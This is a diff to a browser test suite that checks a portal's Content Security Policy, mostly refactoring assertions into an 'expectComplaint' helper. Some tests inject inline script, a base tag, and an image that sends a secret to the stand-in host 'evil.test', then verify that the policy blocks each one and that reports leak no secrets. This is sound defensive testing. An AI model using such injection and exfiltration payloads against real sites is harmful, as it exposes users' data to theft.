@@ -9,7 +9,9 @@ import { until } from "../../harness/until.ts";
 import { portalTests } from "./harness.ts";
 
 const metricsPort = await freePort();
-const { open, visit, url, complaints, server } = portalTests({ env: { METRICS_PORT: String(metricsPort) } });
+const { open, visit, url, complaints, expectComplaint, server } = portalTests({
+  env: { METRICS_PORT: String(metricsPort) },
+});
 
 let elsewhere: Server;
 beforeAll(async () => {
@@ -30,7 +32,7 @@ describe("the portal in a browser", () => {
     const frame = page.frames().find((one) => one !== page.mainFrame());
     await page.waitForTimeout(300);
     expect(await frame?.locator("#portal").count()).toBe(0);
-    expect(complaints().join()).toMatch(/frame-ancestors|Refused to display|refused to connect/u);
+    await expectComplaint(/frame-ancestors|Refused to display|refused to connect/u);
   });
 
   it("the portal runs no injected script, and follows no injected form or base", async () => {
@@ -47,7 +49,7 @@ describe("the portal in a browser", () => {
       return [window.ranInline, window.ranScript, document.baseURI.startsWith("https://evil.test")];
     })()`);
     expect(ran).toEqual([undefined, undefined, false]);
-    expect(complaints().length).toBeGreaterThan(0);
+    await expectComplaint(/Content Security Policy/u);
   });
 
   it("the portal reports policy violations to the service, which counts them and logs nothing secret", async () => {
@@ -72,7 +74,7 @@ describe("the portal in a browser", () => {
       document.body.append(script);
       document.body.append(Object.assign(new Image(), { src: "https://evil.test/${secret}?${secret}#${secret}" }));
     })()`);
-    await until(() => logged().length >= lines + 2, 10_000);
+    await until(() => logged().length >= lines + 2);
     const told = { level: "warn", disposition: "enforce", document: "portal" };
     expect(logged().slice(lines)).toMatchObject([
       { ...told, directive: "script-src-elem", blocked: "inline" },
@@ -80,7 +82,7 @@ describe("the portal in a browser", () => {
     ]);
     expect((await counted()).join()).toMatch(/script-src-elem.*img-src|img-src.*script-src-elem/su);
     expect(`${server().log.join("")}${(await counted()).join()}`).not.toContain(secret);
-    expect(complaints().length).toBeGreaterThan(0);
+    await expectComplaint(/Content Security Policy/u);
   });
 
   it("the dialogs and menus of the portal need no inline style", async () => {
@@ -89,7 +91,7 @@ describe("the portal in a browser", () => {
     const before = await inline();
     await page.keyboard.press("?");
     await page.getByRole("dialog").waitFor();
-    expect(await inline()).toBe(before);
+    await expect.poll(() => inline()).toBe(before);
     expect(complaints()).toEqual([]);
   });
 
